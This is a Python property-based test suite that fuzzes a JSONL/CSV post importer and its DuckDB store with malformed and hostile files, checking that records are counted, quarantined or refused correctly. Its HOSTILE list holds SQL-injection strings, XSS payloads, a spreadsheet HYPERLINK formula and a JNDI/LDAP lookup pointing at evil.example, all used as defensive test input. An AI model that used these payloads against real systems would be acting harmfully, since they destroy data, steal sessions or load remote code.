"""Property-based tests of the file importer with hostile input (issue #7, "bad input").

Hypothesis writes JSONL and CSV files mixing good posts, posts with one known defect, and
lines nobody can predict (random JSON objects, random bytes, truncated and wrongly encoded
lines, NULs, BOMs, 1-2 MB texts, SQL and HTML in every field), and imports each into a real
DuckDB raw store that already holds earlier posts. For every file:

* the import returns counts, or raises one ``store.errors.InputError`` for the whole file
  (then nothing stored changes and the run is recorded as failed); no other exception;
* every record is counted once: ``read == new + changed + duplicate + quarantined``. Rule for
  JSONL: a record is a physical line (split at ``\\n`` only) that is not blank after removing
  the line end and spaces. Rule for CSV: a record is what the ``csv`` module reads after the
  header, unless all its fields are blank; a record the parser cannot read (a lone ``\\r``
  in an unquoted field) is quarantined as ``record``;
* a good post is stored at its physical line, or is a duplicate of a stored one, with its
  text, bio and record byte-for-byte as sent (SQL and script text stays plain text);
* a post with a known defect is quarantined with the file, its physical line and the field;
* rows stored before are unchanged, and a re-import adds nothing (no post, no quarantine row).
"""
from __future__ import annotations

import pytest

import csv
import io
import itertools
import json
import os
from datetime import datetime
from pathlib import Path

import duckdb
from hypothesis import HealthCheck, Phase, assume, event, given, settings, strategies as st

from ingest import jobs
from ingest.bounded import MAX_RECORD_BYTES
from ingest.files import SNIFF_BYTES
from ingest.landing import PLATFORM_ALIASES, PLATFORMS
from store import config
from store.errors import InputError
from tests.support import post, raw_query, write_jsonl

pytestmark = pytest.mark.slow  # fuzzing

# CI (the CI variable set) replays the same examples every run, so a red CI is always
# reproducible; locally each run explores new ones.
SETTINGS = settings(max_examples=25, deadline=None, derandomize=bool(os.environ.get("CI")),
                    phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink],
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large])

HOSTILE = [
    "'); DROP TABLE raw_posts; --",
    "x'; DELETE FROM quarantine WHERE '1'='1",
    "\" OR 1=1 --",
    "1; UPDATE raw_posts SET text = 'pwned'; --",
    "$text_pattern $run_id ? %s {0} {typed}",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "]]><!--",
    "%_\\%\\_ LIKE '%'",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "Robert'); DROP TABLE Students;--",
    "\u202eevil\u202c \u200b\ufeff zero-width",
    "caf\u00e9 \U0001f600 \u4e2d\u6587 \u0645\u0631\u062d\u0628\u0627",
    "line\nbreak\r\nand\rcarriage",
    "form\x0cfeed\x0bvtab\x1cfs\x85nel\u2028ls\u2029ps",
    "tab\there, comma, \"quote\", 'single'",
    "\\N NULL null None",
    "",
    " ",
]
SAFE_IDS = st.text(min_size=1, max_size=30).filter(lambda s: s == s.strip() and s.strip())
HOSTILE_TEXT = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=200),
                         st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join))
HOSTILE_ID = st.one_of(st.sampled_from([h.strip() for h in HOSTILE if h.strip()]), SAFE_IDS)
OFFSETS = ["Z", "+00:00", "+01:00", "-05:00", "+05:30", "-0330", "+0000"]
TIMES = st.builds(
    lambda moment, offset: moment.strftime("%Y-%m-%dT%H:%M:%S") + offset,
    st.datetimes(min_value=datetime(2001, 1, 1), max_value=datetime(2025, 12, 31)),
    st.sampled_from(OFFSETS),
)
PLATFORM_NAMES = st.one_of(
    st.sampled_from(PLATFORMS),
    st.sampled_from(PLATFORMS + list(PLATFORM_ALIASES)).map(lambda p: f" {p.upper()} "),
)
KNOWN_TRUSTS = ["RR8", "RTD", "rr8", " RTD "]
REQUIRED = ["platform", "post_id", "author_id", "created_at", "text"]
_files = itertools.count()


def canonical(platform: str) -> str:
    name = platform.strip().lower()
    return PLATFORM_ALIASES.get(name, name)


@st.composite
def good_posts(draw) -> dict:
    record = {
        "platform": draw(PLATFORM_NAMES),
        "post_id": draw(HOSTILE_ID),
        "author_id": draw(HOSTILE_ID),
        "created_at": draw(TIMES),
        "text": draw(HOSTILE_TEXT),
    }
    for name in ("author_name", "author_bio", "author_location", "url", "parent_id", "thread_id",
                 "source"):
        if draw(st.booleans()):
            record[name] = draw(HOSTILE_TEXT)
    if draw(st.booleans()):
        record["trust_code"] = draw(st.sampled_from(KNOWN_TRUSTS))
    if draw(st.booleans()):  # fields the format does not know are kept in the record only
        record[draw(st.sampled_from(HOSTILE))] = draw(HOSTILE_TEXT)
    return record


@st.composite
def defective_posts(draw) -> tuple[dict, str]:
    """A post with exactly one known defect, and the field it must be quarantined on."""
    record = draw(good_posts())
    defect = draw(st.sampled_from(["missing", "null", "blank", "platform", "no_offset",
                                   "bad_time", "trust"]))
    if defect in ("missing", "null", "blank"):
        field = draw(st.sampled_from(REQUIRED if defect != "blank" else
                                     [f for f in REQUIRED if f != "text"]))
        if defect == "missing":
            del record[field]
        else:
            record[field] = None if defect == "null" else draw(st.sampled_from(["", "   "]))
        return record, field
    if defect == "platform":
        record["platform"] = "zz" + draw(HOSTILE_TEXT)
        return record, "platform"
    if defect == "no_offset":
        record["created_at"] = record["created_at"][:19]
        return record, "created_at"
    if defect == "bad_time":
        record["created_at"] = "x" + draw(HOSTILE_TEXT)
        return record, "created_at"
    record["trust_code"] = "NOPE" + draw(HOSTILE_TEXT)
    return record, "trust_code"


class Store:
    """One read-only connection to the raw store for a group of checks (closed before the
    next import: DuckDB allows one writer or readers in a process, not both)."""

    def __enter__(self):
        self.con = duckdb.connect(str(config.raw_path()), read_only=True)
        return self

    def __exit__(self, *exc):
        self.con.close()

    def __call__(self, sql: str, params=None) -> list[tuple]:
        return self.con.execute(sql, params or {}).fetchall()


# --- the store before and after --------------------------------------------------------------

def ensure_baseline(folder: Path) -> None:
    """Posts stored before any hostile file (imported once per data folder)."""
    if not (folder / "raw.duckdb").exists():
        folder.mkdir(parents=True, exist_ok=True)
        baseline = [post(str(i), text=f"baseline {i} {HOSTILE[i % len(HOSTILE)]}") for i in range(20)]
        counts = jobs.import_file(write_jsonl(folder.parent / "baseline.jsonl", baseline))
        assert counts.new == 20


def snapshot(query=None) -> dict[str, set]:
    """A fingerprint of every stored row (and the file it came from)."""
    if query is None:
        with Store() as store:
            return snapshot(store)
    posts = ("platform, post_id, payload_hash, text, author_bio, payload, origin,"
             " origin_line::VARCHAR, run_id, fetched_at::VARCHAR")
    quarantine = "run_id, origin, origin_line::VARCHAR, field, reason, record_hash"
    return {
        "raw_posts": set(query(f"SELECT md5(concat_ws(chr(31), {posts})), origin FROM raw_posts")),
        "quarantine": set(query(
            f"SELECT md5(concat_ws(chr(31), {quarantine})), origin FROM quarantine")),
    }


def assert_unchanged_except(before: dict, after: dict, origin: str | None) -> None:
    for table in before:
        assert before[table] <= after[table], f"{table}: rows stored before changed or vanished"
        added = after[table] - before[table]
        assert all(row[1] == origin for row in added), f"{table}: rows added for another file"


def import_and_check(path: Path, good: dict[int, dict], bad: dict[int, str], n_records: int | None,
                     expect_error: str | None = None):
    """Import ``path``; check the properties common to JSONL and CSV; return (counts, origin)."""
    origin = str(path.resolve())
    with Store() as query:
        before = snapshot(query)
        runs = query("SELECT count(*) FROM ingest_runs")[0][0]
    try:
        counts = jobs.import_file(path)
    except InputError as exc:
        event(f"whole file refused: {str(exc).split(': ', 1)[-1][:40]}")
        assert str(path) in str(exc)  # a clear message naming the file
        assert expect_error is None or expect_error in str(exc)
        assert snapshot() == before, "a refused file changed the stores"
        assert raw_query("SELECT status, error FROM ingest_runs ORDER BY started_at DESC LIMIT 1")[0][0] \
            == "failed"
        return None, origin
    assert expect_error is None, f"expected the file to be refused ({expect_error})"
    with Store() as query:
        after = snapshot(query)
        assert_unchanged_except(before, after, origin)
        assert query("SELECT count(*) FROM ingest_runs")[0][0] == runs + 1
        assert counts.read == counts.new + counts.changed + counts.duplicate + counts.quarantined
        if n_records is not None:
            assert counts.read == n_records
        stored = dict(query("SELECT origin_line, count(*) FROM raw_posts WHERE origin = $o"
                            " GROUP BY 1", {"o": origin}))
        assert all(n == 1 for n in stored.values())
        assert len(stored) == counts.new + counts.changed
        quarantined: dict[int, set[str]] = {}
        for line, field in query("SELECT origin_line, field FROM quarantine WHERE origin = $o",
                                 {"o": origin}):
            quarantined.setdefault(line, set()).add(field)
        assert len(quarantined) == counts.quarantined
        assert not set(stored) & set(quarantined), "a line both stored and quarantined"
        for line, field in bad.items():
            assert field in quarantined.get(line, set()), (line, field, quarantined.get(line))
        for line, record in good.items():
            assert line not in quarantined, (line, record, quarantined[line])
            rows = query(
                "SELECT text, author_bio, origin_line, origin FROM raw_posts WHERE platform = $p"
                " AND post_id = $i AND text = $t AND author_id = $a",
                {"p": canonical(record["platform"]), "i": record["post_id"].strip(),
                 "t": record["text"], "a": record["author_id"].strip()})
            assert rows, f"good post on line {line} neither stored nor a duplicate: {record!r}"
            if line in stored:
                assert (line, origin) in {(r[2], r[3]) for r in rows}
            for text, bio, *_ in (r for r in rows if (r[2], r[3]) == (line, origin)):
                assert bio == (record.get("author_bio") or None)  # kept untrimmed, as sent
    event(f"stored {min(counts.new + counts.changed, 5)}+, quarantined {min(counts.quarantined, 5)}+")
    # a re-import adds nothing, and quarantines nothing twice
    again = jobs.import_file(path)
    assert (again.new, again.changed) == (0, 0)
    assert again.read == counts.read and again.quarantined == counts.quarantined
    assert snapshot() == after
    return counts, origin


# --- JSONL ---------------------------------------------------------------------------------

def huge_text(size: int, piece: str) -> str:
    chunk = f"{piece} <script>x</script> '); DROP TABLE raw_posts;-- \u00e9\U0001f600 "
    return (chunk * (size // len(chunk) + 1))[:size]


@st.composite
def jsonl_lines(draw):
    """(bytes of one line, kind, record or field)."""
    kind = draw(st.sampled_from(["good"] * 6 + ["defect"] * 4 + [
        "wrong_type", "wrong_type", "truncated", "truncated", "not_object", "random_object",
        "random_object", "random_bytes", "random_bytes", "bad_utf8", "bad_utf8", "blank"]
        + ["raw_nul"]))
    if kind == "good":
        record = draw(good_posts())
        return json.dumps(record, ensure_ascii=draw(st.booleans())).encode(), "good", record
    if kind == "defect":
        record, field = draw(defective_posts())
        return json.dumps(record).encode(), "bad", field
    if kind == "wrong_type":  # a wrong-typed text is kept as its JSON text; a wrong time fails
        record = draw(good_posts())
        int64 = st.integers(-2**63, 2**63 - 1)
        value = draw(st.one_of(int64, st.booleans(), st.lists(int64, max_size=3),
                               st.dictionaries(st.text(max_size=5), int64, max_size=2)))
        if draw(st.booleans()):
            record["created_at"] = value
            return json.dumps(record).encode(), "bad", "created_at"
        record["text"] = value
        return json.dumps(record).encode(), "wrong_text", record
    if kind == "truncated":
        line = json.dumps(draw(good_posts()), ensure_ascii=False).encode()
        return line[:draw(st.integers(1, len(line) - 1))], "bad", "record"
    if kind == "not_object":
        value = draw(st.one_of(st.lists(st.integers(), max_size=3), st.text(max_size=20),
                               st.integers(), st.none(), st.booleans()))
        return json.dumps(value).encode(), "bad", "record"
    if kind == "random_object":
        value = draw(st.dictionaries(
            st.one_of(st.sampled_from(REQUIRED + ["trust_code", "author_bio"]), st.text(max_size=8)),
            st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | HOSTILE_TEXT,
                         lambda inner: st.lists(inner, max_size=3)
                         | st.dictionaries(st.text(max_size=5), inner, max_size=3), max_leaves=8),
            max_size=8))
        return json.dumps(value).encode(), "unknown", None
    if kind == "random_bytes":
        line = draw(st.binary(min_size=1, max_size=200).map(
            lambda b: b.replace(b"\n", b"").replace(b"\x00", b"")))
        assume(any(33 <= b <= 126 for b in line))  # not blank
        return line, "unknown", None
    if kind == "bad_utf8":
        line = json.dumps(draw(good_posts()), ensure_ascii=False).encode()
        at = draw(st.integers(0, len(line)))
        junk = draw(st.sampled_from([b"\xff", b"\xc3", b"\xe9", b"\xed\xa0\x80", b"\xf8\x88\x80\x80"]))
        return line[:at] + junk + line[at:], "bad", "record"
    if kind == "raw_nul":
        record = draw(good_posts())
        record["text"] = "nul:" + record["text"]
        return json.dumps(record).replace("nul:", "nul\x00").encode(), "nul", "record"
    return draw(st.sampled_from([b"", b"   ", b"\r"])), "blank", None


@SETTINGS
@given(lines=st.lists(jsonl_lines(), min_size=1, max_size=12), bom=st.booleans(),
       crlf=st.booleans(), final_newline=st.booleans(), huge=st.sampled_from([1, 0, 0]),
       pad=st.booleans(), data=st.data())
def test_jsonl_every_line_is_stored_or_quarantined(data_dir, tmp_path, lines, bom, crlf, final_newline,
                                                   huge, pad, data):
    ensure_baseline(data_dir)
    first = json.dumps(post(f"first-{next(_files)}")).encode()  # so the file is recognised as JSONL
    lines = [(first, "good", json.loads(first))] + lines
    if pad:  # a long post first, so that a NUL further on is past the format sniff
        record = post(f"pad-{next(_files)}", text="p" * SNIFF_BYTES)
        lines.insert(1, (json.dumps(record).encode(), "good", record))
    if huge:  # a 0.5-2 MB post: within the record cap it is stored, over it quarantined
        record = data.draw(good_posts())
        record["text"] = huge_text(data.draw(st.integers(500_000, 2_100_000)),
                                   data.draw(HOSTILE_TEXT))
        at = data.draw(st.integers(1, len(lines)))
        lines.insert(at, (json.dumps(record).encode(), "good", record))
    end = b"\r\n" if crlf else b"\n"
    for i, (line, kind, detail) in enumerate(lines):  # its size: the line, with a \r before its \n
        size = len(line) + (crlf and (i < len(lines) - 1 or final_newline))
        if size > MAX_RECORD_BYTES:
            lines[i] = (line, "bad", "record")
    content = (b"\xef\xbb\xbf" if bom else b"") + end.join(line for line, _, _ in lines)
    content += end if final_newline else b""
    path = tmp_path / f"fuzz-{next(_files)}.jsonl"
    path.write_bytes(content)

    good, bad = {}, {}
    n_records = 0
    for number, (line, kind, detail) in enumerate(lines, start=1):
        if kind == "blank":
            continue
        n_records += 1
        if kind == "good":
            good[number] = detail
        elif kind in ("bad", "nul"):
            bad[number] = detail
    nul_early = b"\x00" in content[:SNIFF_BYTES]
    event("huge line" if any(len(line) > 1_000_000 for line, _, _ in lines) else "no huge line")
    counts, origin = import_and_check(path, good, bad, n_records,
                                      expect_error="binary file" if nul_early else None)
    if counts is None:
        return
    # what was sent is what is stored: the record untouched, wrong-typed text as its JSON
    with Store() as query:
        stored = {line: (payload, text) for line, payload, text in query(
            "SELECT origin_line, payload, text FROM raw_posts WHERE origin = $o", {"o": origin})}
        quarantined = dict(query("SELECT origin_line, any_value(record) FROM quarantine"
                                 " WHERE origin = $o GROUP BY 1", {"o": origin}))
    for number, (line, kind, detail) in enumerate(lines, start=1):
        if number in stored:
            payload, text = stored[number]
            sent = line.decode("utf-8")
            if number == 1 and bom:
                sent = sent.removeprefix("\ufeff")
            assert payload == sent.rstrip("\r")
            if kind == "wrong_text":
                assert json.loads(text) == detail["text"]
    for number, record in quarantined.items():
        line = lines[number - 1][0]
        if len(line) >= MAX_RECORD_BYTES:  # over the cap (\r counted): its start, size and digest
            assert record.endswith("bytes in all, sha256 " + record.rsplit(" ", 1)[-1])
            assert len(record) < 2_000
            continue
        if record is not None and b"\x00" not in line:
            try:
                assert record == line.decode("utf-8").removeprefix("\ufeff").rstrip("\r")[:10000]
            except UnicodeDecodeError:
                pass  # the unreadable line is kept as NULL or replaced text, never executed


# --- CSV -----------------------------------------------------------------------------------

CSV_OPTIONAL = ["parent_id", "thread_id", "author_name", "author_bio", "author_location", "url",
                "source", "trust_code"]


@st.composite
def csv_files(draw):
    """(bytes, {line: good record}, {line: field}, number of records)."""
    columns = REQUIRED + draw(st.lists(st.sampled_from(CSV_OPTIONAL), unique=True, max_size=4))
    if draw(st.booleans()):
        columns.append("extra_" + draw(st.text(alphabet="abc_", max_size=5)))
    columns = draw(st.permutations(columns))
    header = [draw(st.sampled_from([c, c.upper(), f" {c} ", c.title()])) if c in REQUIRED else c
              for c in columns]
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC]))
    terminator = draw(st.sampled_from(["\n", "\r\n"]))

    def row(values: dict) -> str:
        out = io.StringIO()
        csv.writer(out, quoting=quoting, lineterminator=terminator).writerow(
            [values.get(c, "") for c in columns])
        return out.getvalue()

    def over_cap(text: str) -> bool:
        """Over the record cap: the record (its final line end not counted), or the untouched
        record the landing stores (its cells as JSON, under the header's names)."""
        cells = next(csv.reader(io.StringIO(text, newline="")))
        payload = json.dumps(dict(zip([h.strip().lower() for h in header], cells)), ensure_ascii=False)
        return len(text.encode()) - 1 > MAX_RECORD_BYTES or len(payload.encode()) > MAX_RECORD_BYTES

    def unquoted_cr(values: dict) -> bool:
        """Python's csv writer quotes a lone \r only when it is part of the line terminator:
        with QUOTE_MINIMAL and "\n" it writes it bare, and such a record is unreadable."""
        if quoting != csv.QUOTE_MINIMAL or "\r" in terminator:
            return False
        cells = [str(values.get(c) or "") for c in columns]
        return any("\r" in v and not any(ch in v for ch in ',"\n') for v in cells)

    text_rows: list[tuple[str, str, object]] = []  # (text of the row, kind, detail)
    for _ in range(draw(st.integers(1, 10))):
        kind = draw(st.sampled_from(["good"] * 5 + ["defect"] * 2 + ["count", "cr", "blank",
                                                                     "random", "huge"]))
        if kind in ("good", "huge"):
            record = draw(good_posts())
            record = {k: v for k, v in record.items() if k in columns}
            if kind == "huge":
                record["text"] = huge_text(draw(st.integers(200_000, 1_000_000)), draw(HOSTILE_TEXT))
            bad_record = unquoted_cr(record) or over_cap(row(record))
            text_rows.append((row(record), "bad", "record") if bad_record else (row(record), "good", record))
        elif kind == "defect":
            record, field = draw(defective_posts())
            if field in ("post_id", "author_id", "platform", "created_at") and record.get(field) is None:
                record[field] = ""  # CSV has no null: an empty cell is missing
            if field == "text" and "text" not in record or record.get("text") is None:
                continue  # CSV cannot express a missing text in a row with a text column
            if field == "trust_code" and "trust_code" not in columns:
                continue
            text_rows.append((row(record), "bad", "record" if unquoted_cr(record) else field))
        elif kind == "count":  # too many or too few fields
            n = draw(st.sampled_from([len(columns) + 1, len(columns) + 3, len(columns) - 1]))
            values = dict(enumerate(draw(st.lists(HOSTILE_TEXT, min_size=n, max_size=n))))
            values[0] = "x"  # not blank
            out = io.StringIO()
            csv.writer(out, quoting=quoting, lineterminator=terminator).writerow(
                [values[i] for i in range(n)])
            text_rows.append((out.getvalue(), "bad", "record"))
        elif kind == "cr":  # a lone carriage return in an unquoted field
            text_rows.append(("x,1,a,2025-03-01T10:00:00Z,one\rtwo" + terminator, "bad", "record"))
        elif kind == "blank":
            text_rows.append((draw(st.sampled_from(["", " ", ",,,", " , ,"])) + terminator, "blank", None))
        else:
            line = draw(st.text(max_size=80).map(
                lambda t: "".join(ch for ch in t if ch not in '"\n\r\x00')))
            fields = line.split(",")
            blank = all(not f.strip() for f in fields)
            text_rows.append((line + terminator, "blank" if blank else "unknown", None))
    body = ",".join(header) + terminator
    good, bad, n_records, line = {}, {}, 0, 2
    for text, kind, detail in text_rows:
        if kind != "blank":
            n_records += 1
        if kind == "good":
            good[line] = detail
        elif kind == "bad":
            bad[line] = detail
        body += text
        line += text.count("\n")
    encoded = body.encode("utf-8")
    if draw(st.booleans()):
        encoded = b"\xef\xbb\xbf" + encoded
    if draw(st.booleans()):  # an undecodable byte on an extra last line
        encoded += b"x,1,a,2025-03-01T10:00:00Z,caf\xe9" + terminator.encode()
        bad[line] = "record"
        n_records += 1
    return encoded, good, bad, n_records


@SETTINGS
@given(case=csv_files())
def test_csv_every_row_is_stored_or_quarantined(data_dir, tmp_path, case):
    ensure_baseline(data_dir)
    content, good, bad, n_records = case
    assume(b"\x00" not in content)
    path = tmp_path / f"fuzz-{next(_files)}.csv"
    path.write_bytes(content)
    counts, origin = import_and_check(path, good, bad, n_records)
    if counts is None:
        # only a file with no readable record at all is refused as a whole
        assert not good
        return
    # the record kept is the row as read: each good value round-trips exactly
    for line, record in good.items():
        rows = raw_query("SELECT payload FROM raw_posts WHERE origin = $o AND origin_line = $l",
                         {"o": origin, "l": line})
        if rows:
            payload = {k.strip().lower(): v for k, v in json.loads(rows[0][0]).items()}
            for name, value in record.items():
                assert payload[name] == value


# --- whole files of anything ---------------------------------------------------------------

@SETTINGS
@given(content=st.one_of(
    st.binary(max_size=2000),
    st.text(max_size=2000).map(lambda t: t.encode("utf-8")),
    st.tuples(st.sampled_from([b"", b"\xef\xbb\xbf", b"{", b"platform,post_id,author_id,created_at,text\n",
                               b"\x00", b"PK\x03\x04", b"\xff\xfe{\x00"]),
              st.binary(max_size=500)).map(b"".join),
))
def test_any_file_is_imported_or_refused_with_one_clear_error(data_dir, tmp_path, content):
    ensure_baseline(data_dir)
    path = tmp_path / f"anything-{next(_files)}.{'jsonl' if content[:1] == b'{' else 'csv'}"
    path.write_bytes(content)
    import_and_check(path, {}, {}, None)


def test_hostile_text_is_stored_literally_and_tables_survive(data_dir, tmp_path):
    """Every hostile string in every field of one post, as JSONL and as CSV."""
    records = []
    for i, hostile in enumerate(HOSTILE):
        record = post(f"h{i} {hostile}".strip(), text=hostile, author_id=f"a {hostile}".strip())
        for name in ("author_name", "author_bio", "author_location", "url", "parent_id",
                     "thread_id", "source"):
            record[name] = hostile
        records.append(record)
    jobs.import_file(write_jsonl(tmp_path / "hostile.jsonl", records))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(records[0]))
    writer.writeheader()
    writer.writerows({**r, "post_id": "csv-" + r["post_id"]} for r in records)
    (tmp_path / "hostile.csv").write_text(out.getvalue(), encoding="utf-8", newline="")
    counts = jobs.import_file(tmp_path / "hostile.csv")
    assert (counts.new, counts.quarantined) == (len(records), 0)
    stored = raw_query("SELECT post_id, text, author_bio FROM raw_posts")
    assert len(stored) == 2 * len(records)
    by_id = {post_id: (text, bio) for post_id, text, bio in stored}
    for r in records:
        for post_id in (r["post_id"], "csv-" + r["post_id"]):
            assert by_id[post_id] == (r["text"], r["author_bio"] or None)
    for table in ("raw_posts", "quarantine", "ingest_runs", "ref_trusts"):
        assert raw_query(f"SELECT count(*) FROM {table}")[0][0] >= 0  # still there
